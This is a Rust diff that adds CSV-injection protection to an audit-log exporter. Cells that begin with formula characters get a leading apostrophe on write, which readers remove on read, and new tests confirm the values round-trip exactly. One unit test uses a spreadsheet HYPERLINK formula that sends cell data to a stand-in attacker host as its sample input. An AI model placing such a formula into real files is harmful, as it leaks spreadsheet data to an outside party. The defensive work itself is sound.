@@ -6,6 +6,13 @@
 //! absent value is an empty *unquoted* field; every text value (also times, UUIDs, hashes,
 //! and the JSON arrays of `roles` and `object_ids`) is quoted, `"` doubled; integers are
 //! bare. Times have six fractional digits.
+//!
+//! Spreadsheets read a cell that starts with `=`, `+`, `-`, `@`, tab or carriage return as
+//! a formula, so a failed login as `=HYPERLINK(…)` would run in the auditor's spreadsheet.
+//! A quoted value that starts with one of them, after any number of `'`, is written with
+//! one more `'` in front (OWASP's CSV-injection defence; a spreadsheet shows the value as
+//! text and hides that `'`), and readers drop that one `'` again: the rule is exact both
+//! ways, so a file reads back to the record that was hashed.
 
 #[cfg(test)]
 use std::io::BufRead;
@@ -56,8 +63,29 @@ pub fn csv_header() -> String {
     line
 }
 
+/// What makes a spreadsheet read a cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a value is written with one more leading `'`: it starts with a formula
+/// character once its leading `'`s are set aside. Counting the `'`s makes the rule exact
+/// both ways: a value that itself starts `'=` is written `''=` and reads back as `'=`.
+pub fn needs_defusing(s: &str) -> bool {
+    s.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A quoted CSV value as recorded: without the `'` [`needs_defusing`] added.
+pub fn undefused(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if needs_defusing(s) => rest,
+        _ => s,
+    }
+}
+
 fn quoted(out: &mut String, s: &str) {
     out.push('"');
+    if needs_defusing(s) {
+        out.push('\'');
+    }
     out.push_str(&s.replace('"', "\"\""));
     out.push('"');
 }
@@ -229,7 +257,7 @@ impl<R: BufRead> ExportReader<R> {
         let text = |col: usize| -> Result<Option<String>, ReadError> {
             let (v, q) = &f[col];
             match (q, v.is_empty()) {
-                (true, _) => Ok(Some(v.clone())),
+                (true, _) => Ok(Some(undefused(v).to_owned())),
                 (false, true) => Ok(None),
                 (false, false) => Err(bad(col)),
             }
@@ -619,7 +647,7 @@ fn csv_record(text: &str, f: &[CsvField], scratch: &str, r: &mut Record, tmp: &m
         let field = &f[col];
         let v = field.get(text, scratch);
         match (field.quoted, v.is_empty()) {
-            (true, _) => Ok(Some(v)),
+            (true, _) => Ok(Some(undefused(v))),
             (false, true) => Ok(None),
             (false, false) => Err(bad(col)),
         }
@@ -1272,9 +1300,68 @@ mod tests {
         assert_eq!(fast_records(&csv).unwrap(), fast);
     }
 
+    #[test]
+    fn formula_cells_are_defused_and_read_back_exactly() {
+        let mut e = sample();
+        e.actor_name = Some("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into());
+        e.action = "+1".into();
+        e.object_id = Some("'=already".into());
+        e.reason = Some("''@x".into());
+        e.tier = Some("'plain".into());
+        e.client_addr = Some("\t-1".into());
+        let line = csv_line(&e);
+        assert!(line.contains(r#","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#), "{line}");
+        assert!(line.contains(r#","'+1","#), "{line}");
+        assert!(line.contains(r#","''=already","#), "{line}");
+        assert!(line.contains(r#","'''@x","#), "{line}");
+        assert!(line.contains(r#","'plain","#), "{line}");
+        assert!(line.contains("\"'\t-1\""), "{line}");
+        let text = format!("{}{line}", csv_header());
+        assert_eq!(slow_records(&text).unwrap(), vec![Record::from_entry(&e)]);
+        assert_eq!(fast_records(&text).unwrap(), vec![Record::from_entry(&e)]);
+    }
+
     mod properties {
         use super::*;
         use proptest::prelude::*;
+
+        /// Text that often starts like a formula, or with `'`s before one.
+        fn risky() -> impl Strategy<Value = String> {
+            ("['=+@a\t\r-]{0,4}", any::<String>()).prop_map(|(start, rest)| start + &rest)
+        }
+
+        proptest! {
+            #[test]
+            fn no_csv_cell_starts_a_formula_and_every_value_reads_back(
+                e in crate::chain::tests::properties::entries(),
+                texts in proptest::collection::vec(risky(), 8),
+            ) {
+                let mut e = e;
+                let mut t = texts.into_iter();
+                e.actor_name = t.next();
+                e.action = t.next().unwrap_or_default();
+                e.object_type = t.next();
+                e.object_id = t.next();
+                e.reason = t.next();
+                e.request_id = t.next().unwrap_or_default();
+                e.roles = vec![t.next().unwrap_or_default()];
+                e.client_addr = t.next();
+                let text = csv_header() + &csv_line(&e);
+                let expected = vec![Record::from_entry(&e)];
+                prop_assert_eq!(&fast_records(&text).unwrap(), &expected);
+                prop_assert_eq!(&slow_records(&text).unwrap(), &expected);
+                let line = csv_line(&e);
+                let line = line.trim_end_matches('\n');
+                let mut fields = Vec::new();
+                let mut scratch = String::new();
+                split_csv(line, &mut fields, &mut scratch).unwrap();
+                // Bare cells are integers, which a spreadsheet reads as numbers.
+                for f in fields.iter().filter(|f| f.quoted) {
+                    let cell = f.get(line, &scratch);
+                    prop_assert!(!cell.starts_with(FORMULA_START), "{:?}", cell);
+                }
+            }
+        }
 
         proptest! {
             #[test]
